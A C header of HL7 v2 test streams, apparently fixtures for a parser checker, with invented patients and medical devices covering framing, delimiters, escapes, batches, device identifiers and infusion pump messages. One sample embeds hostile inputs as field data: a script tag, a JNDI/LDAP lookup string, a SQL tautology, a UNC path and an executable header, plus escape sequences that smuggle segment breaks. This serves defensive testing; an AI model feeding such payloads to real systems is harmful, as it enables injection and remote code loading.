/* HL7 streams for check_hl7.c, written for this project: invented persons and devices.
 * CR stands for 0D; BEGIN and END for the MLLP frame. */
#ifndef HL7_SAMPLES_H
#define HL7_SAMPLES_H

#define CR "\r"
#define BEGIN "\x0b"
#define END "\x1c\r"
#define MSH(type, id)                                                                          \
	"MSH|^~\\&|GW^0011223344556677^EUI-64|WARD|CDR|HOSP|20240102101640+0000||" type "|" id \
	"|P|2.6|||AL|NE||8859/1"
#define MSH_PROFILE(type, id, profile) MSH(type, id) "|||" profile CR
#define ADT(id)                                                                                \
	MSH("ADT^A01^ADT_A01", id)                                                             \
	CR "EVN|A01|20240102" CR "PID|1||123^^^H^MR||TEST^PERSON||19500101|O" CR               \
	   "PV1|1|I|WARD^1^2" CR
#define PCD "OBR|1|ORD1|FIL1|69985^MDC_DEV_PUMP_INFUS_MDS^MDC" CR

struct sample {
	const char *name;
	const char *bytes;
	size_t len;
};

#define SAMPLE(name, text)                                                                     \
	{                                                                                      \
		name, text, sizeof(text) - 1                                                   \
	}

static const struct sample samples[] = {
	SAMPLE("plain", BEGIN ADT("A1") END),
	SAMPLE("no last CR", BEGIN MSH("ADT^A01", "A2") CR "PID|1||9" END BEGIN ADT("A3") END),
	SAMPLE("acknowledgements", BEGIN MSH("ACK^A01^ACK", "K1") CR
	       "MSA|AE|A1" CR "ERR||PID^1^5|101^Required field missing|E" CR
	       "ERR|^^^207&Internal" CR END BEGIN "MSH|^~\\&|A|B|C|D|2024||ACK|K2|P|2.3" CR
	       "MSA|AR|A2||||204^Unknown" CR END),
	SAMPLE("commit blocks", "\x0b\x06\x1c\r\x0b\x15\x1c\r" BEGIN ADT("A4") END),
	SAMPLE("hllp", "\x0b"
		       "D21\r" ADT("A5") "00150123\x1c\r"),
	SAMPLE("no frame", ADT("A6") MSH("ORU^R01^ORU_R01", "A7") CR "OBX|1|ST|X||text" CR),
	SAMPLE("line feeds",
	       BEGIN "MSH|^~\\&|A|B|C|D|2024||ADT^A08|A8|P|2.3\nPID|1||5\nPV1|1|I|X\n" END BEGIN
		     "MSH|^~\\&|A|B|C|D|2024||ADT^A08|A9|P|2.3\r\nPID|1||5\r\n" END),
	SAMPLE("line feed in text, and before a segment", BEGIN MSH("ORU^R01", "B1") CR
	       "OBX|1|FT|X||line one\nline two" CR "OBX|2|NM|Y||1\nOBX|3|NM|Y||2" CR END),
	SAMPLE("missing CR", BEGIN ADT("B2") "\x1c" BEGIN ADT("B3") "\x1c"),
	SAMPLE("lone 1C is data", BEGIN MSH("ORU^R01", "B4") CR "OBX|1|TX|X||a\x1c"
								"b" CR "\x1cZZ|1" CR END),
	SAMPLE("nested start", BEGIN MSH("ADT^A01", "B5") CR "PID|1||77|x" BEGIN ADT("B6")
				       END BEGIN MSH("ADT^A01", "B7") CR BEGIN ADT("B8") END),
	SAMPLE("stray 0B", BEGIN MSH("ADT^A01", "B9") CR "PID|1||77\x0b|x" CR END),
	SAMPLE("junk", BEGIN ADT("C1") END "hello\r\nworld" BEGIN ADT("C2") END
	       "\r\n\r\n" BEGIN "rubbish" END BEGIN ADT("C3") END
	       "xMSH|^~\\&|no\rMSH|^~\\&|yes|||||||ADT\r"),
	SAMPLE("batch", BEGIN "FHS|^~\\&|A|B|C|D|2024||F||FILE1" CR
			      "BHS|^~\\&|A|B|C|D|2024||N||BATCH1" CR ADT("D1") ADT(
				      "D2") "BTS|3" CR "FTS|1" CR END BEGIN "BHS|^~\\&|A|B" CR
					    "MSH|@~\\&|A|B|C|D|2024||ADT@A01|D3|P|2.3" CR END),
	SAMPLE("stray segments",
	       BEGIN ADT("D4") END BEGIN "BHS|^~\\&|A" CR "PID|1" CR "ZZZ" CR "BTS|0" CR END),
	SAMPLE("own delimiters", BEGIN "MSH#*!%$#APP#FAC#R#F#2024##ORU*R01*ORU_R01#E1#P#2.5" CR
				       "OBX#1#NM#157784*MDC_FLOW_FLUID_PUMP*MDC#1.1.1.1#5#"
				       "265266*MDC_DIM_MILLI_L_PER_HR*MDC" CR END BEGIN
				       "MSH|^~\\&#|A|B|C|D|2024||ADT^A01|E2|P|2.7" CR END),
	SAMPLE("odd delimiters",
	       BEGIN "MSH|^^\\&|A|B|C|D|2024||ADT^A01|E3|P|2.3" CR END BEGIN
		     "MSH|^~A&|A|B|C|D|2024||ADT^A01|E4|P|2.3" CR END BEGIN
		     "MSH|^|A|B|C|D|2024||ADT^A01|E5|P|2.3" CR "PID|1" CR END),
	SAMPLE("escapes", BEGIN MSH("ORU^R01", "F1") CR
	       "OBX|1|TX|E||a \\F\\ b \\S\\ \\X4142\\ \\H\\bold\\N\\ \\.br\\" CR
	       "OBX|2|NM|Z||1|||||||||||||S\\T\\1^M\\S\\2\\X2D\\3^v\\Zq\\w^DNS" CR END),
	SAMPLE("escape abuse", BEGIN MSH("ORU^R01", "F2") CR
	       "OBX|1|TX|E||\\X0D\\MSH\\X1c0D\\" CR "OBX|2|TX|E||open \\Xabc|" CR
	       "OBX|3|FT|E||\\.sp9999\\ \\X4\\" CR END),
	SAMPLE("injection", BEGIN MSH("ORU^R01", "F3") CR
	       "OBX|1|TX|E||<ScRipt>x" CR "OBX|2|ST|E||${jndi:ldap://x/a}|<!DOCTYPE a>" CR
	       "OBX|3|ST|E||1' OR 1=1" CR "OBX|4|RP|E||\\E\\\\E\\10.0.0.9\\E\\share" CR
	       "OBX|5|ED|D||A^AP^X^Base64^TVqQAAMAAAAEAAAA" CR
	       "OBX|6|ED|D||A^AP^X^A^%PDF-1.7" CR END),
	SAMPLE("names",
	       BEGIN MSH("ADT^A01", "F4") CR "pid|1" CR "PI" CR "PIDx1" CR "Z01|2" CR END),
	SAMPLE("query", BEGIN MSH("QBP^Q22^QBP_Q21", "F5") CR
	       "QPD|Q22^Find^HL7|T1|@PID.3^1" CR END BEGIN MSH("QRY^A19", "F6") CR
	       "QRD|2024|R|I|Q1|||1^RD|0012|DEM" CR END),
	SAMPLE("software", BEGIN MSH("ORU^R01", "G1") CR
	       "SFT|Vendor AG^L|7.4.2|Gateway|7.4.2-b1||20231201" CR
	       "SFT|Other|1.0|Engine|1.0" CR END),
	SAMPLE("equipment", BEGIN MSH("ESU^U01", "G2") CR "EQU|A7^LAB|20240102|OP" CR END),
	SAMPLE("udi", BEGIN MSH("ORU^R01", "G3") CR
	       "PRT||UC||EQUIP||||||(01)00614141999996(11)230901(17)280901(10)LOT7(21)SN-1^^"
	       "2.16.840.1.113883.3.3719^ISO||||||00614141999996^GS1^2.51.1.1^ISO|20230901" CR
	       "PRT||UC||EQUIP||||||+H123PRODUCT1/$$3280901LOT8/SSN-2/16D20230901C^^"
	       "2.16.840.1.113883.3.3719^ISO" CR
	       "PRT||UC||EQUIP||||||=/"
	       "A9999XYZ100T0944=,000025=A99971312345600=>014032=}013032&,1"
	       "1000000000000XYZ123^^2.16.840.1.113883.3.3719^ISO" CR
	       "PRT||UC||EQUIP||||||01006141419999971123090117280901"
	       "10LOT9\x1d"
	       "21SN-3^^"
	       "2.16.840.1.113883.3.3719^ISO" CR
	       "PRT||UC||EQUIP||||||||||||Pump A Plus|||L1|S9" CR "PRT||UC||RCT|||||||" CR END),
	SAMPLE("device ids", BEGIN MSH("ORU^R01^ORU_R01", "H1") CR
	       "OBX|1||69965^MDC_DEV_MON_PHYSIO_MULTI_PARAM_MDS^MDC|1.0.0.0|||||||X|||||||"
	       "00-11-22-33-44-55-66-88^^00-11-22-33-44-55-66-88^EUI-64" CR
	       "OBX|2|ST|67880^MDC_ATTR_ID_MODEL^MDC|1.0.0.1|Maker^Model 8||||||R" CR
	       "OBX|3|ST|67885^MDC_ATTR_ID_PROD_SPECN^MDC|1.0.0.3|SW 9.1~SERIAL S-1~HW: "
	       "C||||||R" CR "OBX|4|ST|67886^MDC_ATTR_ID_SOFT^MDC|1.0.0.4|TAG-7||||||R" CR
	       "OBX|5|ST|MDC_ATTR_ID_BED_LABEL^67870|1.0.0.4|BED-7||||||R" CR
	       "OBX|6|CWE|68007|1.0.0.4|^operating||||||R" CR
	       "OBX|7||70686^MDC_DEV_PRESS_BLD_NONINV_VMD^MDC|1.1.0.0|||||||X|||||||"
	       "SER9^Mod9^vendor.example^DNS~0011223344556688^^0011223344556688^EUI-64" CR
	       "OBX|8|NM|150021^MDC_PRESS_BLD_NONINV_SYS^MDC|1.1.1.1|120||||||R|||||||"
	       "e86c094f-f751-4acf-92b2-38f11c1f6f57" CR
	       "OBX|9|NM|X^Y||1||||||R|||||||^^PUMP-7^Vendor Inc~^^PUMP-7^Vendor Inc" CR
	       "OBX|10|NM|X^Y||1||||||R|||||||E2^NS" CR END),
	SAMPLE("more attributes", BEGIN MSH("ORU^R01^ORU_R01", "H2") CR
	       "OBX|1||69965^^MDC|1.0.0.0|||||||X" CR
	       "OBX|2|ST|531969^MDC_ID_MODEL_NUMBER^MDC|1.0.0.1|M1" CR
	       "OBX|3|ST|531970^X|1.0.0.1|V1" CR "OBX|4|ST|531972^^MDC|1.0.0.1|S1" CR
	       "OBX|5|ST|531974^^MDC|1.0.0.1|H1" CR "OBX|6|ST|531975^^MDC|1.0.0.1|W1" CR
	       "OBX|7|ST|67972^MDC_ATTR_SYS_ID^MDC|1.0.0.1|0011223344556699" CR
	       "OBX|8|ST|67974^MDC_ATTR_SYS_TYPE^MDC|1.0.0.1|1^MDC_DEV_X_MDS^MDC" CR
	       "OBX|9|ST|531972^^LN|1.0.0.1|not ours" CR END),
	SAMPLE("personal", BEGIN MSH("ORU^R01^ORU_R01", "H3") CR
	       "OBX|1||528391^MDC_DEV_SPEC_PROFILE_BP^MDC|1.0.0.0|||||||X|||||||P1^M^v.example^"
	       "DNS" CR "OBX|2|ST|531972^MDC_ID_PROD_SPEC_SERIAL^MDC|1.0.0.2|P1" CR END BEGIN
		       MSH("ORU^R01^ORU_R01", "H4") CR
	       "OBX|1|ST|720899^MDC_IDC_DEV_SERIAL_NUMBER^MDC||I-1" CR END),
	SAMPLE("pump status",
	       BEGIN MSH_PROFILE("ORU^R01^ORU_R01", "P1",
				 "IHE_PCD_001^IHE PCD^1.3.6.1.4.1.19376.1.6.1.1.1^ISO") PCD
	       "OBX|1||69985^MDC_DEV_PUMP_INFUS_MDS^MDC|1.0.0.0|||||||X|||||||"
	       "0011223344556601^^0011223344556601^EUI-64" CR
	       "OBX|2||69986^MDC_DEV_PUMP_INFUS_VMD^MDC|1.1.0.0|||||||X" CR
	       "OBX|3|CWE|184508^MDC_PUMP_STAT^MDC|1.1.0.1|^pump-status-infusing||||||R" CR
	       "OBX|4|CWE|184504^MDC_PUMP_MODE^MDC|1.1.0.2|^pump-mode-continuous||||||R" CR
	       "OBX|5|ST|184517^MDC_PUMP_DRUG_LIBRARY_VERSION^MDC|1.1.0.3|LIB-1||||||R" CR
	       "OBX|6|ST|184516^MDC_PUMP_DRUG_LIBRARY_CARE_AREA^MDC|1.1.0.4|ICU||||||R" CR
	       "OBX|7||126978^MDC_DEV_PUMP_DELIVERY_CHAN^MDC|1.1.1.0|||||||X" CR
	       "OBX|8|NM|157784^MDC_FLOW_FLUID_PUMP^MDC|1.1.1.1|12.5|265266^MDC_DIM_MILLI_L_"
	       "PER_HR^MDC" CR "OBX|9|NM|157884^MDC_VOL_FLUID_TBI^MDC|1.1.1.2|250|mL^^UCUM" CR
	       "OBX|10|NM|157872^^MDC|1.1.1.3|200|263762^^MDC^mL^mL^UCUM" CR
	       "OBX|11|NM|0^MDC_VOL_FLUID_DELIV^MDC|1.1.1.4|50|263762^MDC_DIM_MILLI_L^MDC" CR
	       "OBX|12|NM|MDC_TIME_PD_REMAIN^157916|1.1.1.5|96|264352^MDC_DIM_MIN^MDC" CR
	       "OBX|13|CWE|0^MDC_DEV_PUMP_CURRENT_DELIVERY_STATUS^MDC|1.1.1.6|^delivering" CR
	       "OBX|14|CWE|0^MDC_DEV_PUMP_ACTIVE_SOURCES^MDC|1.1.1.6|^primary~^secondary" CR
	       "OBX|15|CWE|0^MDC_DEV_PUMP_NOT_DELIVERING_REASON^MDC|1.1.1.6|^held" CR
	       "OBX|16|ST|184514^MDC_DRUG_NAME_LABEL^MDC|1.1.2.1|Water" CR
	       "OBX|17|NM|157760^MDC_CONC_DRUG^MDC|1.1.2.2|4|264306^MDC_DIM_MILLI_G_PER_ML^"
	       "MDC" CR "OBX|18|NM|157924^MDC_RATE_DOSE^MDC|1.1.2.3|5.0|265619^MDC_DIM_MICRO_G_"
			"PER_KG_PER_MIN" CR
	       "OBX|19|NM|68063^MDC_ATTR_PT_WEIGHT^MDC|1.1.2.4|70|263875^MDC_DIM_KILO_G^MDC" CR
	       "OBX|20|NM|68060^MDC_ATTR_PT_HEIGHT^MDC|1.1.2.4|170|cm" CR
	       "OBX|21|NM|157989^MDC_TIME_PCA_LOCKOUT^MDC|1.1.3.4|10|min" CR
	       "OBX|22|NM|157985^MDC_DOSE_PCA_LIMIT^MDC|1.1.3.4|30|mg" CR END),
	SAMPLE("pump event", BEGIN MSH("ORU^R42^ORU_R01", "P2") CR
	       "OBX|1|CWE|68487^MDC_ATTR_EVT_COND^MDC|1.0.0.1|197288^MDC_EVT_PUMP_DELIV_START^"
	       "MDC" CR "OBX|2|NM|157784^MDC_FLOW_FLUID_PUMP^MDC|1.1.1.1|-0.5|mL/h" CR END),
	SAMPLE("programming",
	       BEGIN
		       MSH_PROFILE(
			       "RGV^O15^RGV_O15",
			       "P3",
			       "IHE_PCD_PIV_001~IHE_PCD_003^IHE "
			       "PCD^1.3.6.1.4.1.19376.1.6.1.3.1 ^ISO") "ORC|RE|RX1|||||||||||||"
								       "||||N7^NURSE" CR
								       "RXG|1|||D1^DRUG|250||"
								       "263762^MDC_DIM_MILLI_L^"
								       "MDC||||||||100|265266^"
								       "MDC_DIM_MILLI_L_PER_HR"
								       "^MDC|400|263890^MDC_"
								       "DIM_MILLI_G^MDC|||||"
								       "250|mL" CR
								       "TQ1|1||||||||||||2^h~"
								       "30^min~5^s" CR
								       "RXR|IV||IVP^IV "
								       "Pump|IV^Infusion" CR
								       "OBX|1||69986^MDC_DEV_"
								       "PUMP_INFUS_VMD^MDC|0|||"
								       "||||R|||||||^^PUMP-1^"
								       "Vendor" CR
								       "OBX|2|NM|68063^MDC_"
								       "ATTR_PT_WEIGHT^MDC|0|"
								       "70|263875^MDC_DIM_KILO_"
								       "G^MDC" CR
								       "ORC|XO|RX2" CR
								       "RXG|1|||D2|||||||||||5|"
								       "ug/kg/min" CR
								       "ORC|CH|RX3" CR
								       "RXG|1|||D3|||||||||||5|"
								       "mg" CR END BEGIN MSH(
									       "ORM^O01", "P4")
									       CR
	       "ORC|NW|O1|||||||||||||||||^NURSE2" CR END),
	SAMPLE("alarm", BEGIN MSH("ORU^R40^ORU_R40", "P5") CR
	       "OBR|1||A1|196616^MDC_EVT_ALARM^MDC" CR
	       "OBX|1|CWE|196616^MDC_EVT_ALARM^MDC|1.3.1.150456.1|196670^MDC_EVT_LO^MDC|||PM~"
	       "SP|||R"
	       "|||||||0011223344556602^^0011223344556602^EUI-64" CR
	       "OBX|2|CWE|68480^MDC_ATTR_ALERT_SOURCE^MDC|1.3.1.150456.2|150456^MDC_PULS_OXIM_"
	       "SAT_O2^MDC" CR "OBX|3|ST|68481^MDC_ATTR_EVENT_PHASE^MDC|1.3.1.150456.3|start" CR
	       "OBX|4|ST|68482^MDC_ATTR_ALARM_STATE^MDC|1.3.1.150456.4|active" CR
	       "OBX|5|ST|68483^MDC_ATTR_ALARM_INACTIVATION_STATE^MDC|1.3.1.150456.5|audio-off~"
	       "alarm-off" CR "OBX|6|ST|68484^MDC_ATTR_ALARM_PRIORITY^MDC|1.3.1.150456.6|PM" CR
	       "OBX|7|ST|68485^MDC_ATTR_ALERT_TYPE^MDC|1.3.1.150456.7|SP" CR "OBR|2||A2" CR
	       "OBX|1|ST|196674^MDC_EVT_LO_VAL_LT_LIM^MDC|1.1.0.1.1|SPO2 LOW for TEST" CR
	       "OBX|2|ST|0^MDC_ATTR_EVT_PHASE^MDC|1.1.0.1.3|end" CR "OBR|3||A3" CR
	       "OBX|1|ST|196670|1.1.0.1.1|x" CR
	       "OBX|2|ST|684800^MDC_ATTR_ALERT_SOURCE|1.1.0.1.2|free text here" CR END),
};

#define N_SAMPLES (sizeof(samples) / sizeof(samples[0]))

#endif
